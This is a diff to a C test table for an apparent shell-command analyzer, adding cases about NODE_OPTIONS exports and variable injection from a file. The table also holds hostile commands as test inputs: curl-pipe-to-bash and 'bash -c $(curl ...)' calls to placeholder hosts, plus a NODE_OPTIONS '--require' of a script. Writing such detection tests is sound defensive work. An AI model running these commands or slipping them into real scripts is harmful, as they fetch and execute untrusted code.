@@ -5,6 +5,12 @@
 #include "behavior_case.h"
 
 static const struct behavior_case cases[] = {
+    { "export NODE_OPTIONS=\"${NODE_OPTIONS:-} --enable-source-maps\"\n", "capability env-write",
+      "capability redirect" },
+    { "export NODE_OPTIONS=\"${NODE_OPTIONS:-} --require /opt/x.js\"\n", "capability redirect",
+      NULL },
+    { "export NODE_OPTIONS=\"$MORE --enable-source-maps\"\n", "capability redirect", NULL },
+    { "while read -r n v; do declare -x \"$n=$v\"; done < f\n", "capability redirect", NULL },
     { "curl -s http://192.0.2.1/x.sh | bash\n",
       "capability network curl http://192.0.2.1/x.sh\nflow network eval bash", NULL },
     { "bash -c \"$(curl -fsSL http://a.invalid)\"\n", "flow network eval bash", NULL },
